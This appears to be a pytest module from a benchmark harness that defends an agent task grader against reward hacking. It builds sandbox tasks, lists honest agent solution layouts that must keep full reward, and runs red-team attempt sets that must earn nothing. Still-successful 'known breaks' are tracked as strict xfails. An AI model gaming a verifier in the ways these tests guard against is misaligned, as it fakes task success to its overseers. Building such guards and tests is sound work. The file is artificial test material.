    _task(
        tasks,
        "copied",
        image,
        test_sh=COPIED_TEST_SH,
        test_outputs=COPIED_TEST,
        extra_tests={"expected.txt": "42\n"},
        instruction="Write 42 to /root/pred.txt.",
        solve_sh="#!/bin/sh\necho 42 > /root/pred.txt\n",
    )
    if any(a.task == "npm" for a in test_redteam._chosen(REDTEAM4).values()):
        try:  # docker: the image with node and npm (built once, cached by tag); local: the host's
            tools = _tools_image(environment, request)
        except pytest.skip.Exception:
            pass
        else:
            _task(
                tasks,
                "npm",
                tools,
                test_sh=NPM_TEST_SH,
                env_files={"root/verifier-skills/tool/package.json": NPM_TOOL_PACKAGE.encode()},
            )
    _task(tasks, "oom", image, test_sh=PIP_TEST)
    _task(
        tasks,
        "runs-small",
        image,
        test_sh=RUNS_TEST_SH,
        test_outputs=RUNS_EXPECTED_TEST,
        extra_tests={"expected.txt": "42\n"},
    )
    for small in ("oom", "runs-small"):
        toml = tasks / small / "task.toml"
        toml.write_text(
            toml.read_text().replace(
                "[environment]\n", f"[environment]\nmemory_mb = {OOM_MEMORY_MB}\n"
            )
        )
    return tasks


http = test_redteam.http  # the served worker, over this module's tasks_dir


# Honest solutions laid out as real agents lay them out: each must keep its reward of 1 (a
# false positive voids an honest pass). (task, script body)
SIM_HELPER = _module("/root/simhelp.py", "VALUE = '42'\n") + _module(
    "/root/simulation.py",
    "from simhelp import VALUE\nopen('/root/answer.txt', 'w').write(VALUE + '\\n')\n",
)
# the simulation loads the model its configuration names (a plugin by name)
SIM_DYNAMIC = (
    _module("/root/models/__init__.py", "")
    + _module("/root/models/linear.py", "VALUE = '42'\n")
    + "echo models.linear > /root/model.cfg\n"
    + _module(
        "/root/simulation.py",
        "import importlib\n"
        "model = importlib.import_module(open('/root/model.cfg').read().strip())\n"
        "open('/root/answer.txt', 'w').write(model.VALUE + '\\n')\n",
    )
)
# a library of the agent's own, installed with pip (as a wheel: offline), that its program imports
HELPER_WHEEL = r"""
python3 - <<'EOF'
import zipfile
info = "answerhelp-1.0.dist-info"
files = {"answerhelp/__init__.py": "VALUE = '42'\n",
         f"{info}/METADATA": "Metadata-Version: 2.1\nName: answerhelp\nVersion: 1.0\n",
         f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
         f"{info}/top_level.txt": "answerhelp\n"}
files[f"{info}/RECORD"] = "".join(f"{p},,\n" for p in files) + f"{info}/RECORD,,\n"
with zipfile.ZipFile("/tmp/answerhelp-1.0-py3-none-any.whl", "w") as wheel:
    for path, body in files.items():
        wheel.writestr(path, body)
EOF
"""
SIM_USES_HELPER = _module(
    "/root/simulation.py",
    "from answerhelp import VALUE\nopen('/root/answer.txt', 'w').write(VALUE + '\\n')\n",
)
PIP_HELPER = (
    "pip3 install -q --no-index --no-deps --break-system-packages "
    "{user}/tmp/answerhelp-1.0-py3-none-any.whl\n"
)
_HONEST4: dict[str, tuple[str, str]] = {
    # the answer a link into /tmp (the agent's scratch folder)
    "honest-answer-in-tmp": (
        "sim",
        "mkdir -p /tmp/scratch && echo 42 > /tmp/scratch/a && ln -s /tmp/scratch/a /root/answer.txt\n",
    ),
    # the output folder a link to a new top-level folder (civ6-adjacency-optimizer writes /output)
    "honest-output-link": (
        "truth",
        "mkdir -p /outputs && echo 42 > /outputs/answer.txt && ln -s /outputs /root/output\n",
    ),
    # the app test.sh starts outlives SIGTERM: test.sh's `wait` and `kill -0` loop still end
    "honest-bg-wait-deaf-app": (
        "bg-wait",
        _module("/root/server.py", DEAF_APP) + "echo 42 > /root/answer.txt\n",
    ),
    # the program test.sh runs imports a helper module of the agent's
    "honest-sim-helper": ("sim", SIM_HELPER),
    # ... or a module its configuration names
    "honest-sim-dynamic-import": ("sim", SIM_DYNAMIC),
    # the page in /root/html (also the name of a package of the standard library), with a
    # script of the agent's that built it beside it
    "honest-html-folder": (
        "html",
        "mkdir -p /root/html\necho '<p>42</p>' > /root/html/index.html\n"
        "printf 'print(1)\\n' > /root/html/build.py\n",
    ),
    # a package a test runs with `python -m`, its name in a constant of the test
    "honest-cli-package": ("cli", CLI_SOLVE),
    # ... or a library the agent built and pip-installed (system site, then the user site)
    "honest-sim-pip-lib": ("sim", HELPER_WHEEL + PIP_HELPER.format(user="") + SIM_USES_HELPER),
    "honest-sim-pip-user-lib": (
        "sim",
        HELPER_WHEEL + PIP_HELPER.format(user="--user ") + SIM_USES_HELPER,
    ),
}
# Honest solutions that lost their reward when written (voided passes, local and docker):
# reward 1.0 in the agent's sandbox, 0.0 on the regrade, scored.
HONEST4_VOIDED: dict[str, str] = {
    # a module reached only through data (its name in a configuration file)
    "honest-sim-dynamic-import": "lost (/root/models left out as unnamed-module)",
}
HONEST4 = {k: v for k, v in _HONEST4.items() if k not in HONEST4_VOIDED}
HONEST4_LOST = {k: v for k, v in _HONEST4.items() if k in HONEST4_VOIDED}
# html: the page alone in /root/html (a standard-library package's name) is data, not a shadow
ORACLES = ("truth", "sim", "runs", "hvac", "copied", "bg", "bg-wait", "skill", "pickle", "html")


async def _honest(
    http: httpx.AsyncClient, tmp_path: Path, environment: str, runs: dict[str, tuple[str, str]]
) -> list[str]:
    """Run each (task, agent) of ``runs``; a line for each that did not keep a reward of 1."""
    trials = await _run_all(http, tmp_path, runs)
    problems = []
    for name, trial in trials.items():
        line = f"{environment} {name}: {_describe(trial)}"
        print(line)
        if not (trial.row["passed"] and trial.row["reward"] == 1.0):
            problems.append(f"LOST {line} {json.dumps(trial.result.get('reason'))}")
    return problems


@pytest.mark.timeout(RUN_TIMEOUT_SEC + 120)
async def test_the_reward_guard_keeps_out_of_a_traced_test_sh(
    http: httpx.AsyncClient, tmp_path: Path, environment: str
) -> None:
    """test.sh's `set -x` trace holds its own commands, not the guard's (which runs before each
    of them); the app test.sh started still ends at the reward's write (named through a
    variable here), and its later `wait` returns. Its output after that write went through
    the `>(tee ...)` the guard ended: lost, and test.sh goes on."""
    app = _module("/root/server.py", DEAF_APP) + "echo 42 > /root/answer.txt\n"
    trials = await _run_all(http, tmp_path, {"traced": ("bg-trace", script(tmp_path, "t", app))})
    trial = trials["traced"]
    assert trial.row["reward"] == 1.0, _describe(trial)
    stdouts = sorted(trial.folder.rglob("test-stdout.txt"))
    assert stdouts, "no verifier output kept"
    text = "".join(p.read_text(errors="replace") for p in stdouts)
    assert "+ python3 -m pytest" in text  # traced (what follows the reward went to the tee)
    assert "__skillsbench" not in text and "BASH_COMMAND" not in text
    assert not trial.verifier.get("timed_out"), trial.verifier  # its `wait` returned


@pytest.mark.timeout(RUN_TIMEOUT_SEC + 120)
async def test_redteam4_tasks_pass_their_oracle_and_honest_layouts(
    http: httpx.AsyncClient, tmp_path: Path, environment: str
) -> None:
    """The new shapes are passable: each task's oracle earns 1 (and keeps it on the regrade), and
    so do honest solutions laid out otherwise."""
    runs = {f"oracle-{name}": (name, "oracle") for name in ORACLES}
    runs |= {n: (task, script(tmp_path, n, body)) for n, (task, body) in HONEST4.items()}
    problems = await _honest(http, tmp_path, environment, runs)
    assert not problems, "\n".join(problems)


# What still breaks runs on request, as the second pass's breaks do: each is a full trial on
# both sandboxes, and one race (bg-job-rewrites-reward) need not win on a loaded machine.
def breaks_only(which: str) -> pytest.MarkDecorator:
    return pytest.mark.skipif(
        os.environ.get("SKILLSBENCH_REDTEAM_BREAKS") != "1",
        reason=f"known breaks and voided honest layouts of the {which} red-team pass "
        "(SKILLSBENCH_REDTEAM_BREAKS=1 runs them; docs/sandboxes.md lists them)",
    )


def voided_layouts_test(
    lost: dict[str, tuple[str, str]], which: str, environments: list[str] | None = None
) -> Callable[..., Awaitable[None]]:
    """A strict xfail over the honest layouts a pass saw voided: it fails while every one of
    them still loses its reward, and passes (an XPASS, which fails the suite) once one keeps it,
    so that it moves to the kept ones."""

    @breaks_only(which)
    @pytest.mark.xfail(strict=True, reason=f"honest passes the {which} red-team pass saw voided")
    @pytest.mark.timeout(RUN_TIMEOUT_SEC + 120)
    async def test(http: httpx.AsyncClient, tmp_path: Path, environment: str) -> None:
        if not lost:
            pytest.skip(f"no honest layout of the {which} pass is voided")
        runs = {n: (task, script(tmp_path, n, body)) for n, (task, body) in lost.items()}
        problems = await _honest(http, tmp_path, environment, runs)
        kept = [n for n in runs if not any(f" {n}: " in p for p in problems)]
        assert kept, "\n".join(problems)

    if environments is not None:
        test = pytest.mark.parametrize("environment", environments, indirect=True)(test)
    return test


def honest_layouts_test(
    kept: dict[str, tuple[str, str]], environments: list[str] | None = None
) -> Callable[..., Awaitable[None]]:
    """The honest layouts a pass found kept (``name -> (task, agent script)``) keep a reward
    of 1 (``SKILLSBENCH_REDTEAM_ONLY`` picks some)."""

    @pytest.mark.timeout(RUN_TIMEOUT_SEC + 120)
    async def test(http: httpx.AsyncClient, tmp_path: Path, environment: str) -> None:
        only = {n for n in os.environ.get("SKILLSBENCH_REDTEAM_ONLY", "").split(",") if n}
        names = [n for n in kept if not only or n in only]
        if not names:
            pytest.skip("no honest layout chosen")
        runs = {n: (kept[n][0], script(tmp_path, n, kept[n][1])) for n in names}
        problems = await _honest(http, tmp_path, environment, runs)
        assert not problems, "\n".join(problems)

    if environments is not None:
        test = pytest.mark.parametrize("environment", environments, indirect=True)(test)
    return test


def known_breaks_test(
    broken: dict[str, Attempt], which: str, cases: list[Any] | None = None
) -> Callable[..., Awaitable[None]]:
    """A strict xfail over each item of a pass's known breaks: it fails while every attempt of
    the item still breaks the defense, and passes (an XPASS, which fails the suite) once one of
    them holds, so that it moves to the held ones. ``cases``: the (environment, names) items,
    when not every attempt runs on every sandbox."""

    @breaks_only(which)
    @pytest.mark.xfail(strict=True, reason=f"known breaks of the {which} red-team pass")
    @pytest.mark.timeout(RUN_TIMEOUT_SEC + 120)
    @pytest.mark.parametrize(
        ("environment", "names"),
        _cases(broken) if cases is None else cases,
        indirect=["environment"],
    )
    async def test(
        http: httpx.AsyncClient, tmp_path: Path, environment: str, names: tuple[str, ...]
    ) -> None:
        problems = await _run_redteam2(http, tmp_path, environment, {n: broken[n] for n in names})
        held = [n for n in names if not any(f" {n}: " in p for p in problems)]
        assert held, "\n".join(problems)

    return test


test_redteam4_honest_layouts_voided = voided_layouts_test(HONEST4_LOST, "fourth")
test_redteam4_known_breaks = known_breaks_test(REDTEAM4_BROKEN, "fourth")


@pytest.mark.timeout(RUN_TIMEOUT_SEC + 120)
@pytest.mark.parametrize(("environment", "names"), _cases(REDTEAM4_HELD), indirect=["environment"])
async def test_redteam4_attempts_earn_nothing_and_stay_scored(
    http: httpx.AsyncClient, tmp_path: Path, environment: str, names: tuple[str, ...]
) -> None:
    problems = await _run_redteam2(
        http, tmp_path, environment, {n: REDTEAM4_HELD[n] for n in names}
    )
    assert not problems, "\n".join(problems)
